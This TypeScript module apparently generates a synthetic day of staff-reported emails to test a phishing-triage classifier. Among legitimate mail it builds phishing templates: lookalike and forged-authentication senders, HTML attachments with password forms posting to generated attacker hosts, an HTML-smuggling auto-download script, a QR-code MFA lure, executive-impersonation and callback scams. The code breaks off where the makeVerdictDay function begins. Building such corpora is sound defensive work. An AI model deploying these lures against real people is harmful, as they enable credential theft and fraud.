// A labelled day of reports to the phishing mailbox, as staff of "corp.example" send them: phishing written in many
// ways (brand imitations, lookalike and free-hosted sites, shorteners, IP links, HTML attachments with password forms
// or smuggling scripts, QR codes, our own domain spoofed, a VIP's name from webmail, compromised senders, callback
// scams with no link at all), and the legitimate mail staff report anyway (newsletters that load Google Fonts and link
// Facebook, t.co and imgur; Google Docs, Microsoft, DocuSign, Zoom, GitHub, PayPal, Naver and Coupang notifications;
// internal IT and HR mail), in English and Korean. Most are forwarded as attachments, some inline (Gmail, Outlook,
// Apple Mail, Naver), a few sent straight in. Campaigns are reported by several people, so earlier cases pile up.
// Our MX (authserv-id mx.corp.example) wrote each message's Authentication-Results when it first arrived.
import QRCode from "qrcode";
import { random } from "../test/support/phish-corpus.js";

export const ORG_DOMAIN = "corp.example";
export const MX = "mx.corp.example";
export const VIPS = ["Kim Minjun", "Sarah Connor"];

export type Label = "phish" | "ham";

export interface LabelledReport {
  /** The report's own Message-ID (its alert id), without brackets. */
  id: string;
  raw: string;
  label: Label;
  /** What it is ("phish/brand-credential", "ham/newsletter"…). */
  kind: string;
  /** A URL of it that the feed lists. */
  feedUrl?: string;
  style: ReportStyle;
  language: "en" | "ko";
}

export type ReportStyle = "attachment" | "inline-gmail" | "inline-outlook" | "inline-apple" | "inline-naver" | "original";

interface Mail {
  fromName: string;
  fromAddress: string;
  replyTo?: string;
  subject: string;
  text: string;
  html?: string;
  /** Our MX's verdicts at delivery. */
  auth: { spf: string; dkim: string; dmarc: string };
  /** A header the sender wrote itself, claiming a pass (not ours: must not be believed). */
  forgedAuth?: boolean;
  attachments?: { name: string; type: string; data: Buffer; inlineId?: string }[];
  language: "en" | "ko";
}

const STAFF = ["alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi", "minji", "jisoo", "hyun", "sora"];

function b64(data: Buffer | string): string {
  return Buffer.from(data).toString("base64").replace(/.{76}/g, "$&\r\n");
}

function encodedWord(text: string): string {
  return /^[\x20-\x7e]*$/.test(text) ? text : `=?utf-8?b?${Buffer.from(text).toString("base64")}?=`;
}

function escapeHtml(text: string): string {
  return text.replace(/[&<>"]/g, (c) => `&#${c.charCodeAt(0)};`);
}

function domainOf(address: string): string {
  return address.slice(address.indexOf("@") + 1);
}

function authHeader(mail: Mail): string {
  const domain = domainOf(mail.fromAddress);
  return (
    `Authentication-Results: ${MX}; spf=${mail.auth.spf} smtp.mailfrom=${domain}; ` +
    `dkim=${mail.auth.dkim} header.d=${domain}; dmarc=${mail.auth.dmarc} header.from=${domain}`
  );
}

/** The message as our MX delivered it to the person who reports it. */
function render(mail: Mail, id: string, to: string, date: string): string {
  const headers = [
    `Received: from out.${domainOf(mail.fromAddress)} (out.${domainOf(mail.fromAddress)} [203.0.113.${(id.length * 7) % 250}]) ` +
      `by ${MX} with ESMTPS id ${id.slice(0, 8)}; ${date}`,
    authHeader(mail),
    ...(mail.forgedAuth
      ? [`Authentication-Results: mail.${domainOf(mail.fromAddress)}; spf=pass; dkim=pass; dmarc=pass header.from=paypal.com`]
      : []),
    `From: ${encodedWord(mail.fromName)} <${mail.fromAddress}>`,
    `To: ${to}`,
    ...(mail.replyTo ? [`Reply-To: ${mail.replyTo}`] : []),
    `Subject: ${encodedWord(mail.subject)}`,
    `Message-ID: <${id}>`,
    `Date: ${date}`,
    "MIME-Version: 1.0",
  ];
  const alternative = `alt-${id.replace(/[^a-z0-9]/gi, "")}`;
  const bodyParts = [
    `--${alternative}`,
    "Content-Type: text/plain; charset=utf-8",
    "Content-Transfer-Encoding: base64",
    "",
    b64(mail.text),
    ...(mail.html
      ? [`--${alternative}`, "Content-Type: text/html; charset=utf-8", "Content-Transfer-Encoding: base64", "", b64(mail.html)]
      : []),
    `--${alternative}--`,
  ];
  if (!mail.attachments?.length)
    return [...headers, `Content-Type: multipart/alternative; boundary="${alternative}"`, "", ...bodyParts, ""].join("\r\n");
  const mixed = `mix-${id.replace(/[^a-z0-9]/gi, "")}`;
  const parts = [`--${mixed}`, `Content-Type: multipart/alternative; boundary="${alternative}"`, "", ...bodyParts];
  for (const file of mail.attachments) {
    parts.push(
      `--${mixed}`,
      `Content-Type: ${file.type}; name="${file.name}"`,
      `Content-Disposition: ${file.inlineId ? "inline" : "attachment"}; filename="${file.name}"`,
      ...(file.inlineId ? [`Content-ID: <${file.inlineId}>`] : []),
      "Content-Transfer-Encoding: base64",
      "",
      b64(file.data),
    );
  }
  parts.push(`--${mixed}--`);
  return [...headers, `Content-Type: multipart/mixed; boundary="${mixed}"`, "", ...parts, ""].join("\r\n");
}

const REPORTER_AUTH =
  `Authentication-Results: ${MX}; spf=pass smtp.mailfrom=${ORG_DOMAIN}; ` +
  `dkim=pass header.d=${ORG_DOMAIN}; dmarc=pass header.from=${ORG_DOMAIN}`;

function reportOf(
  style: ReportStyle,
  mail: Mail,
  innerRaw: string,
  reporter: string,
  id: string,
  date: string,
  language: "en" | "ko",
): string {
  if (style === "original") return innerRaw.replace(/^Received: /, `Received: from relay by ${MX}; ${date}\r\nReceived: `);
  const ask = language === "ko" ? "이 메일 피싱인가요? 확인 부탁드립니다." : "Is this phishing? Please check.";
  const signature = `-- \r\n${reporter} | ${language === "ko" ? "재무팀" : "Finance"} | https://intranet.${ORG_DOMAIN}/people/${reporter}`;
  const headers = [
    `Received: from laptop.${ORG_DOMAIN} by ${MX} with ESMTPSA; ${date}`,
    REPORTER_AUTH,
    `From: ${reporter} <${reporter}@${ORG_DOMAIN}>`,
    `To: phish-reports@${ORG_DOMAIN}`,
    `Subject: ${encodedWord(`${style === "attachment" ? "FW" : "Fwd"}: ${mail.subject}`)}`,
    `Message-ID: <${id}>`,
    `Date: ${date}`,
    "MIME-Version: 1.0",
  ];
  if (style === "attachment") {
    const boundary = `rep-${id.replace(/[^a-z0-9]/gi, "")}`;
    return [
      ...headers,
      `Content-Type: multipart/mixed; boundary="${boundary}"`,
      "",
      `--${boundary}`,
      "Content-Type: text/plain; charset=utf-8",
      "",
      ask,
      "",
      signature.replaceAll("\r\n", "\n"),
      `--${boundary}`,
      "Content-Type: message/rfc822",
      'Content-Disposition: attachment; filename="reported.eml"',
      "",
      innerRaw,
      `--${boundary}--`,
      "",
    ].join("\r\n");
  }
  const from = `${mail.fromName} <${mail.fromAddress}>`;
  const block = {
    "inline-gmail": [
      "---------- Forwarded message ---------",
      `From: ${from}`,
      `Date: Mon, 7 Dec 2026 at 09:12`,
      `Subject: ${mail.subject}`,
      `To: <${reporter}@${ORG_DOMAIN}>`,
    ],
    "inline-outlook": [
      "________________________________",
      `From: ${from}`,
      "Sent: Monday, December 7, 2026 9:12 AM",
      `To: ${reporter} <${reporter}@${ORG_DOMAIN}>`,
      `Subject: ${mail.subject}`,
    ],
    "inline-apple": [
      "Begin forwarded message:",
      "",
      `From: ${from}`,
      `Subject: ${mail.subject}`,
      "Date: 7 December 2026 at 09:12:00 KST",
      `To: ${reporter}@${ORG_DOMAIN}`,
    ],
    "inline-naver": [
      "---------- 원본 메일 ----------",
      `보낸사람: ${from}`,
      `받는사람: ${reporter}@${ORG_DOMAIN}`,
      "날짜: 2026-12-07 (월) 09:12:33",
      `제목: ${mail.subject}`,
    ],
  }[style];
  const text = `${ask}\n\n${signature.replaceAll("\r\n", "\n")}\n\n${block.join("\n")}\n\n${mail.text}`;
  const html = mail.html
    ? `<div>${escapeHtml(ask)}</div><div>-- <br>${reporter} | ` +
      `<a href="https://intranet.${ORG_DOMAIN}/people/${reporter}">intranet</a></div><br>` +
      `<div class="quote">${block.map(escapeHtml).join("<br>")}<br><br>${mail.html}</div>`
    : undefined;
  const alternative = `alt-${id.replace(/[^a-z0-9]/gi, "")}`;
  const body = [
    `--${alternative}`,
    "Content-Type: text/plain; charset=utf-8",
    "Content-Transfer-Encoding: base64",
    "",
    b64(text),
    ...(html ? [`--${alternative}`, "Content-Type: text/html; charset=utf-8", "Content-Transfer-Encoding: base64", "", b64(html)] : []),
    `--${alternative}--`,
  ];
  if (!mail.attachments?.length)
    return [...headers, `Content-Type: multipart/alternative; boundary="${alternative}"`, "", ...body, ""].join("\r\n");
  // Mailers forward the original's attachments with the inline text.
  const mixed = `fwd-${id.replace(/[^a-z0-9]/gi, "")}`;
  const parts = [`--${mixed}`, `Content-Type: multipart/alternative; boundary="${alternative}"`, "", ...body];
  for (const file of mail.attachments) {
    parts.push(
      `--${mixed}`,
      `Content-Type: ${file.type}; name="${file.name}"`,
      `Content-Disposition: attachment; filename="${file.name}"`,
      "Content-Transfer-Encoding: base64",
      "",
      b64(file.data),
    );
  }
  return [...headers, `Content-Type: multipart/mixed; boundary="${mixed}"`, "", ...parts, `--${mixed}--`, ""].join("\r\n");
}

function page(paragraphs: string[], links: { href: string; text: string }[], extraHead = "", footer = ""): string {
  return (
    `<html><head>${extraHead}</head><body>${paragraphs.map((p) => `<p>${escapeHtml(p)}</p>`).join("")}` +
    `${links.map((link) => `<p><a href="${escapeHtml(link.href)}">${escapeHtml(link.text)}</a></p>`).join("")}` +
    `${footer}</body></html>`
  );
}

function textOf(paragraphs: string[], links: { href: string; text: string }[]): string {
  return `${paragraphs.join("\n\n")}\n\n${links.map((link) => `${link.text}: ${link.href}`).join("\n")}\n`;
}

const PASS = { spf: "pass", dkim: "pass", dmarc: "pass" };

// --- legitimate mail ----------------------------------------------------------------------------------------

function newsletter(pick: <T>(list: T[]) => T, n: number, ko: boolean): Mail {
  const shops = [
    ["Trailhead Outfitters", "trailhead-outfitters.com"],
    ["Bean & Leaf Coffee", "beanandleaf.coffee"],
    ["The Weekly Byte", "weeklybyte.news"],
    ["무신사 매거진", "musinsa-mag.co.kr"],
    ["Seoul Design Week", "seouldesignweek.kr"],
  ];
  const [name, domain] = pick(shops) as [string, string];
  const paragraphs = ko
    ? ["이번 주 소식을 전해 드립니다.", "새 컬렉션과 할인 행사를 확인하세요."]
    : ["Here is what is new this week.", "Our winter collection is in, with free shipping on orders over $50."];
  const links = [
    { href: `https://www.${domain}/new?utm_source=newsletter&utm_medium=email&n=${n}`, text: ko ? "새 소식 보기" : "See what's new" },
    { href: `https://www.facebook.com/${domain.split(".")[0]}`, text: "Facebook" },
    { href: `https://t.co/${(n * 7919).toString(36)}Ab`, text: "Twitter" },
    { href: `https://imgur.com/gallery/${(n * 104729).toString(36)}`, text: ko ? "사진 보기" : "Photos" },
    { href: `https://www.instagram.com/${domain.split(".")[0]}/`, text: "Instagram" },
    { href: `https://www.${domain}/unsubscribe?u=${n}`, text: ko ? "수신 거부" : "Unsubscribe" },
  ];
  const head =
    `<link href="https://fonts.googleapis.com/css2?family=Roboto:wght@400;700&display=swap" rel="stylesheet">` +
    `<link rel="stylesheet" href="https://fonts.googleapis.com/css?family=Open+Sans">`;
  const footer =
    `<img src="https://i.imgur.com/${(n * 31).toString(36)}.png" width="600">` +
    `<img src="https://www.${domain}/open.gif?u=${n}" width="1" height="1">`;
  return {
    fromName: name,
    fromAddress: `news@${domain}`,
    subject: ko ? `[${name}] 이번 주 소식` : `${name}: this week's picks`,
    text: textOf(paragraphs, links),
    html: page(paragraphs, links, head, footer),
    auth: PASS,
    language: ko ? "ko" : "en",
  };
}

function notification(kind: string, n: number): Mail {
  const notes: Record<string, () => Mail> = {
    google: () => {
      const links = [
        { href: `https://docs.google.com/document/d/1${(n * 99991).toString(36)}x/edit?usp=sharing_eil`, text: "Open" },
        { href: "https://www.google.com/intl/en/policies/terms/", text: "Google LLC" },
      ];
      const p = ["Jane Doe has invited you to edit the following document: Q4 budget draft"];
      return {
        fromName: "Jane Doe (via Google Docs)",
        fromAddress: "drive-shares-dm-noreply@google.com",
        subject: 'Document shared with you: "Q4 budget draft"',
        text: textOf(p, links),
        html: page(p, links),
        auth: PASS,
        language: "en",
      };
    },
    microsoft: () => {
      const links = [
        { href: "https://account.live.com/activity", text: "Review recent activity" },
        { href: "https://go.microsoft.com/fwlink/?LinkId=521839", text: "Privacy statement" },
      ];
      const p = ["We detected a new sign-in to your Microsoft account from Seoul, Korea.", "If this was you, you can ignore this message."];
      return {
        fromName: "Microsoft account team",
        fromAddress: "account-security-noreply@accountprotection.microsoft.com",
        subject: "Microsoft account: new sign-in",
        text: textOf(p, links),
        html: page(p, links),
        auth: PASS,
        language: "en",
      };
    },
    docusign: () => {
      const links = [
        { href: `https://na3.docusign.net/Signing/EmailStart.aspx?a=${(n * 7).toString(16)}-4b2c&acct=9f2e`, text: "REVIEW DOCUMENT" },
        { href: "https://www.docusign.com/support", text: "Help" },
      ];
      const p = ["Park Jiwon sent you a document to review and sign.", "Please review: Vendor agreement 2027"];
      return {
        fromName: "Park Jiwon via DocuSign",
        fromAddress: "dse_na3@docusign.net",
        subject: "Please DocuSign: Vendor agreement 2027",
        text: textOf(p, links),
        html: page(p, links),
        auth: PASS,
        language: "en",
      };
    },
    zoom: () => {
      const links = [{ href: `https://us02web.zoom.us/j/8${n}1234567?pwd=abc`, text: "Join Zoom Meeting" }];
      const p = ["You are invited to a scheduled Zoom meeting: Weekly sync", "Time: Dec 8, 2026 10:00 AM Seoul"];
      return {
        fromName: "Zoom",
        fromAddress: "no-reply@zoom.us",
        subject: "Invitation: Weekly sync",
        text: textOf(p, links),
        html: page(p, links),
        auth: PASS,
        language: "en",
      };
    },
    github: () => {
      const links = [
        { href: `https://github.com/corp-example/payments/pull/${n}`, text: "View it on GitHub" },
        { href: "https://github.com/notifications/unsubscribe-auth/AAB", text: "unsubscribe" },
      ];
      const p = [`@hyun requested your review on corp-example/payments#${n}: Fix rounding in refunds`];
      return {
        fromName: "hyun",
        fromAddress: "notifications@github.com",
        subject: `[corp-example/payments] Fix rounding in refunds (PR #${n})`,
        text: textOf(p, links),
        html: page(p, links),
        auth: PASS,
        language: "en",
      };
    },
    paypal: () => {
      const links = [
        { href: "https://www.paypal.com/myaccount/transactions", text: "View transaction" },
        { href: "https://www.paypal.com/us/smarthelp/home", text: "Help Center" },
      ];
      const p = ["You sent a payment of $24.00 USD to Bean & Leaf Coffee.", "Transaction ID: 7HX12345AB"];
      return {
        fromName: "PayPal",
        fromAddress: "service@paypal.com",
        subject: "Receipt for your payment to Bean & Leaf Coffee",
        text: textOf(p, links),
        html: page(p, links, "", `<img src="https://www.paypalobjects.com/images/logo.png">`),
        auth: PASS,
        language: "en",
      };
    },
    naver: () => {
      const links = [
        { href: "https://nid.naver.com/user2/help/myInfo?lang=ko_KR", text: "내 정보 확인" },
        { href: "https://help.naver.com/", text: "고객센터" },
      ];
      const p = ["회원님의 네이버 아이디로 새로운 기기에서 로그인되었습니다.", "본인이 아니라면 비밀번호를 변경해 주세요."];
      return {
        fromName: "네이버",
        fromAddress: "navercorp@navercorp.com",
        subject: "[네이버] 새로운 기기에서 로그인되었습니다",
        text: textOf(p, links),
        html: page(p, links, "", `<img src="https://ssl.pstatic.net/static/common/logo.png">`),
        auth: PASS,
        language: "ko",
      };
    },
    coupang: () => {
      const links = [
        { href: `https://www.coupang.com/np/order/detail?orderId=${n}9912`, text: "주문 상세 보기" },
        { href: "https://www.coupang.com/", text: "쿠팡" },
      ];
      const p = ["주문하신 상품이 배송 완료되었습니다.", "로켓배송으로 안전하게 도착했습니다."];
      return {
        fromName: "쿠팡",
        fromAddress: "noreply@coupang.com",
        subject: "[쿠팡] 배송 완료 안내",
        text: textOf(p, links),
        html: page(p, links),
        auth: PASS,
        language: "ko",
      };
    },
  };
  return notes[kind]!();
}

function internal(n: number, ko: boolean): Mail {
  const choices = ko
    ? [
        {
          fromName: "인사팀",
          from: "hr",
          subject: "2027년 연말정산 안내",
          p: ["연말정산 서류 제출 기간을 안내드립니다.", "사내 포털에서 제출해 주세요."],
          link: `https://hr.${ORG_DOMAIN}/year-end?n=${n}`,
        },
        {
          fromName: "IT 헬프데스크",
          from: "it-helpdesk",
          subject: "정기 비밀번호 변경 안내",
          p: ["보안 정책에 따라 90일마다 비밀번호를 변경해야 합니다.", "사내 SSO에서 변경해 주세요."],
          link: `https://sso.${ORG_DOMAIN}/password/change`,
        },
      ]
    : [
        {
          fromName: "IT Helpdesk",
          from: "it-helpdesk",
          subject: "Scheduled maintenance: VPN on Saturday",
          p: ["The VPN will be down on Saturday from 22:00 to 23:00.", "No action is needed."],
          link: `https://status.${ORG_DOMAIN}/maintenance/${n}`,
        },
        {
          fromName: "HR Team",
          from: "hr",
          subject: "Open enrollment for 2027 benefits",
          p: ["Open enrollment runs until December 18.", "Review your choices on the HR portal."],
          link: `https://hr.${ORG_DOMAIN}/benefits`,
        },
        {
          fromName: "IT Service Desk",
          from: "servicedesk",
          subject: "Your password expires in 5 days",
          p: ["Your corp.example password expires in 5 days.", "Change it on the SSO page before it expires."],
          link: `https://sso.${ORG_DOMAIN}/password/change`,
        },
      ];
  const choice = choices[n % choices.length]!;
  const links = [
    { href: choice.link, text: ko ? "바로가기" : "Open" },
    { href: `https://intranet.${ORG_DOMAIN}/`, text: "Intranet" },
  ];
  return {
    fromName: choice.fromName,
    fromAddress: `${choice.from}@${ORG_DOMAIN}`,
    subject: choice.subject,
    text: textOf(choice.p, links),
    html: page(choice.p, links),
    auth: PASS,
    language: ko ? "ko" : "en",
  };
}

// --- phishing ---------------------------------------------------------------------------------------------

const TLDS = ["top", "xyz", "info", "click", "shop", "online", "site", "live", "icu", "kr"];
const WORDS = [
  "secure",
  "verify",
  "account",
  "update",
  "support",
  "notice",
  "center",
  "service",
  "alert",
  "portal",
  "auth",
  "login",
  "billing",
  "help",
  "check",
];

interface PhishContext {
  pick: <T>(list: T[]) => T;
  next: () => number;
  n: number;
  ko: boolean;
}

function phishHost(ctx: PhishContext): string {
  return `${ctx.pick(WORDS)}-${ctx.pick(WORDS)}${Math.floor(ctx.next() * 90 + 10)}.${ctx.pick(TLDS)}`;
}

function phishAuth(ctx: PhishContext): Mail["auth"] {
  const roll = ctx.next();
  if (roll < 0.35) return { spf: "fail", dkim: "none", dmarc: "fail" };
  if (roll < 0.6) return { spf: "softfail", dkim: "none", dmarc: "none" };
  return { spf: "pass", dkim: "pass", dmarc: "pass" };
}

const BRANDS_EN = [
  {
    name: "PayPal",
    domain: "paypal.com",
    subject: "Your account has been limited",
    p: [
      "We noticed unusual activity in your PayPal account.",
      "Please confirm your information within 24 hours or your account will be suspended.",
    ],
  },
  {
    name: "Microsoft 365",
    domain: "microsoft.com",
    subject: "Password expires today",
    p: ["Your Microsoft 365 password expires today.", "Keep your current password by verifying below."],
  },
  {
    name: "DocuSign",
    domain: "docusign.com",
    subject: "Completed: Payment advice.pdf",
    p: ["You have received a document to review and sign.", "The document will expire in 48 hours."],
  },
  {
    name: "DHL Express",
    domain: "dhl.com",
    subject: "Your parcel is on hold",
    p: ["Your parcel could not be delivered because of unpaid customs fees.", "Pay $1.99 to release it."],
  },
  {
    name: "Netflix",
    domain: "netflix.com",
    subject: "Payment declined",
    p: ["We could not process your last payment.", "Update your billing details to keep watching."],
  },
  {
    name: "Apple",
    domain: "apple.com",
    subject: "Your Apple ID was locked",
    p: ["Your Apple ID has been locked for security reasons.", "Verify your identity to unlock it."],
  },
  {
    name: "OneDrive",
    domain: "onedrive.com",
    subject: "A file was shared with you",
    p: ["A secure file was shared with you via OneDrive.", "Sign in to view the document."],
  },
];
const BRANDS_KO = [
  {
    name: "네이버",
    domain: "naver.com",
    subject: "[네이버] 비정상 로그인 시도 차단 안내",
    p: ["회원님의 계정에서 비정상적인 로그인 시도가 감지되었습니다.", "아래에서 본인 확인을 진행해 주세요."],
  },
  {
    name: "쿠팡",
    domain: "coupang.com",
    subject: "[쿠팡] 결제 오류로 주문이 보류되었습니다",
    p: ["결제 정보 오류로 주문이 보류되었습니다.", "24시간 이내에 결제 정보를 확인해 주세요."],
  },
  {
    name: "CJ대한통운",
    domain: "cjlogistics.com",
    subject: "[CJ대한통운] 주소 불일치로 배송 보류",
    p: ["주소지 불일치로 택배가 보류되었습니다.", "주소를 다시 입력해 주세요."],
  },
  {
    name: "국세청",
    domain: "nts.go.kr",
    subject: "[국세청] 미납 세금 환급 안내",
    p: ["환급 대상자로 확인되었습니다.", "아래 링크에서 환급을 신청하세요."],
  },
];

async function phish(kind: string, ctx: PhishContext): Promise<{ mail: Mail; urls: string[] }> {
  const { pick, next, n, ko } = ctx;
  const brand = ko ? pick(BRANDS_KO) : pick(BRANDS_EN);
  const host = phishHost(ctx);
  const language: "en" | "ko" = ko ? "ko" : "en";
  const action = ko ? "확인하기" : "Verify now";
  const senderDomain = `${pick(WORDS)}${Math.floor(next() * 900 + 100)}.${pick(TLDS)}`;
  const base = (url: string, extra: Partial<Mail> = {}): { mail: Mail; urls: string[] } => {
    const links = [{ href: url, text: action }];
    return {
      mail: {
        fromName: brand.name,
        fromAddress: `no-reply@${senderDomain}`,
        subject: brand.subject,
        text: textOf(brand.p, links),
        html: page(brand.p, links),
        auth: phishAuth(ctx),
        forgedAuth: next() < 0.2,
        language,
        ...extra,
      },
      urls: [url],
    };
  };
  switch (kind) {
    case "brand-credential": {
      // The link's text shows the brand's own site; it goes elsewhere.
      const url = `https://${host}/${pick(WORDS)}/login.php?id=${n}`;
      const links = [{ href: url, text: `https://www.${brand.domain}/signin` }];
      return { mail: { ...base(url).mail, text: textOf(brand.p, links), html: page(brand.p, links) }, urls: [url] };
    }
    case "lookalike-sender": {
      const look = ko
        ? pick(["naver-security.com", "coupang-event.kr", "cjlogistlcs.com", "nts-refund.kr"])
        : pick([
            "paypa1-support.com",
            "rnicrosoft-online.com",
            "docusign-review.net",
            "dhl-parcels.info",
            "netfl1x-billing.com",
            "app1e-id.com",
          ]);
      const url = `https://secure.${look}/${pick(WORDS)}?session=${n}`;
      return base(url, { fromAddress: `security@${look}`, auth: { spf: "pass", dkim: "pass", dmarc: "pass" } });
    }
    case "free-hosting": {
      const site = pick(["web.app", "firebaseapp.com", "weebly.com", "github.io", "netlify.app", "pages.dev", "glitch.me", "blogspot.com"]);
      const url =
        `https://${pick(WORDS)}-${brand.domain.split(".")[0]}-${n}.${site}/` +
        `${pick(["login", "signin", "verify", "account/update"])}.html`;
      return base(url);
    }
    case "shortener": {
      const url = `https://${pick(["bit.ly", "tinyurl.com", "cutt.ly", "rebrand.ly", "me2.do"])}/${((n * 2654435761) >>> 0).toString(36)}`;
      return base(url);
    }
    case "ip-link": {
      const url =
        `http://${Math.floor(next() * 200 + 20)}.${Math.floor(next() * 250)}.` +
        `${Math.floor(next() * 250)}.${Math.floor(next() * 250)}/${pick(WORDS)}/index.php`;
      return base(url);
    }
    case "html-form": {
      const post = `https://${host}/next.php`;
      const form =
        `<html><body><h3>${escapeHtml(brand.name)}</h3><form method="post" action="${post}">` +
        `<input name="email"><input type="password" name="pass"><button>Sign in</button></form></body></html>`;
      const p = ko ? ["첨부된 문서를 확인해 주세요."] : ["Please see the attached remittance advice.", "Open the attachment to view it."];
      return {
        mail: {
          fromName: brand.name,
          fromAddress: `accounts@${senderDomain}`,
          subject: ko ? "송금 확인서" : "Remittance advice",
          text: textOf(p, []),
          auth: phishAuth(ctx),
          language,
          attachments: [{ name: `Remittance_${n}.html`, type: "text/html", data: Buffer.from(form) }],
        },
        urls: [post],
      };
    }
    case "html-smuggling": {
      const payload = Buffer.from(`<html><form action="https://${host}/p.php"><input type="password"></form></html>`).toString("base64");
      const page2 =
        `<html><body><script>var d=atob("${payload}");var b=new Blob([d],{type:"text/html"});` +
        `var a=document.createElement("a");a.href=URL.createObjectURL(b);a.download="Invoice.html";a.click();</script></body></html>`;
      const p = ["Your invoice is attached."];
      return {
        mail: {
          fromName: "Accounts Payable",
          fromAddress: `ap@${senderDomain}`,
          subject: `Invoice INV-${n}`,
          text: textOf(p, []),
          auth: phishAuth(ctx),
          language,
          attachments: [{ name: `INV-${n}.htm`, type: "text/html", data: Buffer.from(page2) }],
        },
        urls: [],
      };
    }
    case "qr-code": {
      const url = `https://${host}/mfa/${n}`;
      const png = await QRCode.toBuffer(url, { type: "png", margin: 4, scale: 6 });
      const p = ko
        ? ["다중 인증(MFA) 재등록이 필요합니다.", "휴대폰으로 QR 코드를 스캔해 주세요."]
        : ["Your multi-factor authentication must be re-enrolled.", "Scan the QR code with your phone to continue."];
      return {
        mail: {
          fromName: ko ? "보안팀" : "Security Team",
          fromAddress: `mfa@${senderDomain}`,
          subject: ko ? "MFA 재등록 필요" : "Action required: re-enroll MFA",
          text: textOf(p, []),
          html: `${page(p, [])}<img src="cid:qr${n}">`,
          auth: phishAuth(ctx),
          language,
          attachments: [{ name: "qr.png", type: "image/png", data: png, inlineId: `qr${n}` }],
        },
        urls: [url],
      };
    }
    case "own-domain-spoof": {
      const url = `https://${host}/sso/login`;
      const p = ko
        ? ["메일함 용량이 가득 찼습니다.", "아래에서 용량을 늘려 주세요."]
        : ["Your mailbox is almost full.", "Increase your quota below to keep receiving mail."];
      const links = [{ href: url, text: ko ? "용량 늘리기" : "Increase quota" }];
      return {
        mail: {
          fromName: ko ? "IT 헬프데스크" : "IT Helpdesk",
          fromAddress: `it-helpdesk@${ORG_DOMAIN}`,
          subject: ko ? "메일함 용량 초과" : "Mailbox quota exceeded",
          text: textOf(p, links),
          html: page(p, links),
          auth: { spf: "fail", dkim: "none", dmarc: "fail" },
          language,
        },
        urls: [url],
      };
    }
    case "org-display-name": {
      const url = `https://${host}/portal/${n}`;
      const p = ["Your corp.example VPN certificate expires today.", "Renew it below."];
      const links = [{ href: url, text: "Renew" }];
      return {
        mail: {
          fromName: "Corp IT Service Desk",
          fromAddress: `servicedesk@${senderDomain}`,
          subject: "VPN certificate expires today",
          text: textOf(p, links),
          html: page(p, links),
          auth: phishAuth(ctx),
          language: "en",
        },
        urls: [url],
      };
    }
    case "vip-bec": {
      const vip = pick(VIPS);
      const webmail = pick(["gmail.com", "outlook.com", "naver.com"]);
      const p = ko
        ? ["지금 통화 가능하세요? 급하게 처리할 일이 있습니다.", "회의 중이라 메일로만 연락 주세요."]
        : ["Are you available? I need you to handle a quick task for me today.", "I am in a meeting, reply by email only."];
      return {
        mail: {
          fromName: vip,
          fromAddress: `${vip.toLowerCase().replace(" ", ".")}.ceo${n}@${webmail}`,
          replyTo: `exec.office${n}@${pick(["gmail.com", "proton.me"])}`,
          subject: ko ? "급한 부탁" : "Quick request",
          text: textOf(p, []),
          auth: PASS,
          language,
        },
        urls: [],
      };
    }
    case "compromised": {
      // A real small business's account: it passes DMARC, and links to a hacked site's sign-in page.
      const url =
        `https://${pick(["greenvalleyfarm", "lakeside-dental", "kimsbakery", "bluewave-travel"])}.${pick(["com", "net", "co.kr"])}` +
        `/wp-includes/${pick(["office365", "onedrive", "sharepoint"])}/login.php`;
      const p = ["I have shared a file with you on OneDrive.", "Click below to view the document."];
      const links = [{ href: url, text: "View document" }];
      return {
        mail: {
          fromName: "OneDrive",
          fromAddress: `office@${pick(["smithaccounting", "parklaw", "hanaconsulting"])}.com`,
          subject: "Shared document: Contract.pdf",
          text: textOf(p, links),
          html: page(p, links),
          auth: PASS,
          language: "en",
        },
        urls: [url],
      };
    }
    case "attachment-exe": {
      const p = ko ? ["주문서를 첨부합니다."] : ["Please find the purchase order attached."];
      const mz = Buffer.concat([Buffer.from("MZ"), Buffer.alloc(200, 0x90)]);
      return {
        mail: {
          fromName: "Purchasing",
          fromAddress: `po@${senderDomain}`,
          subject: ko ? "발주서" : `Purchase order PO-${n}`,
          text: textOf(p, []),
          auth: phishAuth(ctx),
          language,
          attachments: [{ name: `PO-${n}.pdf.exe`, type: "application/octet-stream", data: mz }],
        },
        urls: [],
      };
    }
    case "data-uri": {
      const form = '<form action="https://x.test"><input type="password"></form>';
      const data = `data:text/html;base64,${Buffer.from(form).toString("base64")}`;
      const p = ["Your voicemail message is ready.", "Open it below."];
      return {
        mail: {
          fromName: "Voicemail",
          fromAddress: `voicemail@${senderDomain}`,
          subject: "New voicemail (0:42)",
          text: textOf(p, []),
          html: `${page(p, [])}<p><a href="${data}">Play message</a></p>`,
          auth: phishAuth(ctx),
          language: "en",
        },
        urls: [],
      };
    }
    case "lure-link": {
      // A plain lure: an unknown domain, a sign-in path, little else.
      const url = `https://${host}/${pick(["account", "login", "verify"])}/${n}`;
      const p = ko ? ["보안 점검을 위해 계정 확인이 필요합니다."] : ["Your account needs to be verified for a security review."];
      const links = [{ href: url, text: action }];
      return {
        mail: {
          fromName: ko ? "고객센터" : "Support",
          fromAddress: `support@${senderDomain}`,
          subject: ko ? "계정 확인 요청" : "Account verification required",
          text: textOf(p, links),
          html: page(p, links),
          auth: phishAuth(ctx),
          language,
        },
        urls: [url],
      };
    }
    default: {
      // A callback scam: no link, no attachment, only a phone number.
      const p = ko
        ? ["회원님의 구독이 자동 갱신되어 99,000원이 결제될 예정입니다.", "취소하려면 02-555-0100 으로 전화하세요."]
        : ["Your Norton subscription renews today for $399.99.", "To cancel, call +1-555-0100 within 24 hours."];
      return {
        mail: {
          fromName: ko ? "결제 안내" : "Billing Department",
          fromAddress: `billing${n}@${pick(["gmail.com", "outlook.com"])}`,
          subject: ko ? "자동 결제 안내" : "Your subscription renewal",
          text: textOf(p, []),
          auth: PASS,
          language,
        },
        urls: [],
      };
    }
  }
}

const PHISH_KINDS: [string, number][] = [
  ["brand-credential", 70],
  ["lookalike-sender", 40],
  ["free-hosting", 35],
  ["shortener", 25],
  ["ip-link", 15],
  ["html-form", 30],
  ["html-smuggling", 15],
  ["qr-code", 20],
  ["own-domain-spoof", 20],
  ["org-display-name", 15],
  ["vip-bec", 15],
  ["compromised", 25],
  ["attachment-exe", 15],
  ["data-uri", 10],
  ["lure-link", 35],
  ["callback", 10],
];

/**
 * The day: `phish` phishing reports (some campaigns reported several times) and `ham` legitimate ones, shuffled as
 * they arrive, with `feedListed` phish whose link the feed lists (`inlineListed` of them forwarded inline).
 */
export async function makeVerdictDay(
